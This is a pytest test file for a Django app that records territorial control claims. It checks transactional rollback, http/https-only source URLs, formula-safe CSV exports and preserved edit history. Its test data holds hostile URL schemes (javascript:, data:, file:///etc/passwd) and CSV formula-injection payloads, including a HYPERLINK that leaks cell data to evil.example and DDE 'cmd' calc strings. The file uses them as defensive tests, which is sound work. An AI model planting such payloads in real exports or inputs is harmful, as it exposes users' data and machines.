"""Data safety inside the app: a write that fails half-way leaves nothing, only web URLs are sources,
CSV exports cannot run formulas, and what editors do never destroys history."""
import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Group, User
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.db.models.signals import post_save
from django.test import Client

from editorial.review import apply_review
from api import versions
from geo.exchange import ImportError_, export_document, import_document
from geo.models import Actor, Citation, Claim, Outlet, Place, Source

PASSWORD = "a-long-test-passphrase-42"
HOSTILE_URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>",
                "vbscript:msgbox(1)", "ftp://example.org/file", "file:///etc/passwd", "//example.org/no-scheme",
                "https://", "http://exa mple.org/"]


@pytest.fixture(autouse=True)
def fast_hasher(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def drafts(seeded):
    place, holder, source = Place.objects.get(slug="raqqa"), Actor.objects.get(slug="sdf"), Source.objects.first()
    ids = []
    for day in range(1, 7):
        claim = Claim.objects.create(place=place, status="controlled", holder=holder, claimant="Test",
                                     date=dt.date(2016, 2, day))
        Citation.objects.create(claim=claim, source=source, quote="A quote.")
        ids.append(claim.pk)
    return ids


class FailOnNthSave:
    """Makes the database refuse the nth claim saved, as a constraint or a lost connection would."""

    def __init__(self, n, error):
        self.n, self.error, self.saved = n, error, 0

    def __call__(self, sender, **kwargs):
        self.saved += 1
        if self.saved == self.n:
            raise self.error

    def __enter__(self):
        post_save.connect(self, sender=Claim, dispatch_uid="fail-on-nth-save")
        return self

    def __exit__(self, *exc):
        post_save.disconnect(sender=Claim, dispatch_uid="fail-on-nth-save")


def state():
    return (sorted(Claim.objects.values_list("key", "review", "revision")), Claim.history.count(),
            Place.objects.count(), Source.objects.count())


def test_a_batch_publication_failing_half_way_publishes_nothing(drafts):
    reviewer = User.objects.create_superuser("rita", "rita@example.org", PASSWORD)
    before = state()
    with FailOnNthSave(4, IntegrityError("refused by the database")):
        message = apply_review(reviewer, drafts, Claim.Review.PUBLISHED)
    assert message.startswith("Nothing was changed")
    assert state() == before
    with FailOnNthSave(4, RuntimeError("the worker crashed")), pytest.raises(RuntimeError):
        apply_review(reviewer, drafts, Claim.Review.PUBLISHED)
    assert state() == before


def test_an_import_failing_half_way_imports_nothing(seeded):
    document = export_document()
    document["claims"] += [{**claim, "key": f"copy-{i}", "review": "draft"} for i, claim in enumerate(document["claims"])]
    document["places"].append({**document["places"][0], "slug": "new-place", "names": []})
    before = state()
    with FailOnNthSave(5, RuntimeError("the worker crashed")), pytest.raises(RuntimeError):
        import_document(document)
    assert state() == before and not Place.objects.filter(slug="new-place").exists()
    with FailOnNthSave(5, IntegrityError("refused by the database")), pytest.raises(ImportError_) as error:
        import_document(document)
    assert "violates a database rule" in str(error.value)
    assert state() == before


@pytest.mark.parametrize("url", HOSTILE_URLS)
def test_only_http_and_https_source_urls_are_accepted_by_the_model(seeded, url):
    source = Source(outlet=Outlet.objects.first(), url=url, title="T", published_at=dt.datetime(2017, 1, 1, tzinfo=dt.timezone.utc))
    with pytest.raises(ValidationError) as error:
        source.full_clean()
    assert "url" in error.value.message_dict


def test_only_http_and_https_source_urls_pass_the_admin_form_the_import_and_the_database(seeded):
    User.objects.create_superuser("root", "root@example.org", PASSWORD)
    client = Client()
    client.login(username="root", password=PASSWORD)
    outlet = Outlet.objects.first()
    for url in HOSTILE_URLS[:4]:
        form = {"key": "new-source", "outlet": outlet.pk, "url": url, "title": "A title", "published_at_0": "2017-11-20",
                "published_at_1": "10:00:00", "language": "en", "archive_url": url}
        response = client.post("/admin/geo/source/add/", form)
        assert response.status_code == 200, url
        errors = response.context["adminform"].form.errors
        assert "Enter an http:// or https:// address." in errors["url"] or "Enter a valid URL." in errors["url"]
        assert "archive_url" in errors
        outlet_form = {"name": "O", "slug": "o", "homepage": url, "reliability": "unknown"}
        assert "homepage" in client.post("/admin/geo/outlet/add/", outlet_form).context["adminform"].form.errors
    assert not Source.objects.filter(key="new-source").exists()
    document = export_document()
    document["sources"][0]["url"] = "javascript:alert(1)"
    with pytest.raises(ImportError_) as error:
        import_document(document)
    assert "url" in str(error.value)
    with pytest.raises(IntegrityError), transaction.atomic():
        Source.objects.filter(pk=Source.objects.first().pk).update(url="javascript:alert(1)")


def test_csv_exports_neutralise_cells_a_spreadsheet_would_run(client, seeded):
    claim = Claim.objects.filter(review="published", place__slug="boukamal").first()
    formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
    Claim.objects.filter(pk=claim.pk).update(claimant=formulas[0], rank="normal", notes="")
    claim.citations.update(quote=formulas[1])
    claim.place.__class__.objects.filter(pk=claim.place_id).update(name=formulas[2])
    Source.objects.filter(pk=claim.citations.first().source_id).update(title=formulas[3])
    Outlet.objects.filter(pk=claim.citations.first().source.outlet_id).update(name=formulas[4])
    versions.bump()
    for url in ("/api/v2/claims/?place=boukamal&format=csv", f"/api/v2/control/?at={claim.date.isoformat()}&format=csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
        for cell in cells:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), f"{url}: {cell!r} would run as a formula"
            assert not (cell.startswith("-") and not cell.lstrip("-").replace(".", "", 1).isdigit()), f"{url}: {cell!r}"
        shown = "\n".join(cells)
        assert "'" + formulas[0] in shown or "'" + formulas[2] in shown, f"{url}: the text is kept, only made inert"


def test_what_an_editor_does_never_destroys_history(seeded):
    editor = User.objects.create_user("edna", password=PASSWORD, is_staff=True)
    editor.groups.add(Group.objects.get(name="Editors"))
    client = Client()
    client.login(username="edna", password=PASSWORD)
    draft = Claim.objects.create(place=Place.objects.get(slug="raqqa"), status="contested", date=dt.date(2016, 3, 1),
                                 claimant="Editor's draft")
    published = Claim.objects.filter(review="published").first()
    history_before = Claim.history.count()
    assert client.post(f"/admin/geo/claim/{published.pk}/delete/", {"post": "yes"}).status_code == 403
    assert Claim.objects.filter(pk=published.pk).exists()
    assert client.post(f"/admin/geo/claim/{draft.pk}/delete/", {"post": "yes"}).status_code == 302
    assert not Claim.objects.filter(pk=draft.pk).exists()
    # The deleted draft is still in history, with what it said and who deleted it.
    last = Claim.history.filter(id=draft.pk).order_by("-history_date").first()
    assert last.history_type == "-" and last.claimant == "Editor's draft" and last.history_user == editor
    assert Claim.history.count() == history_before + 1
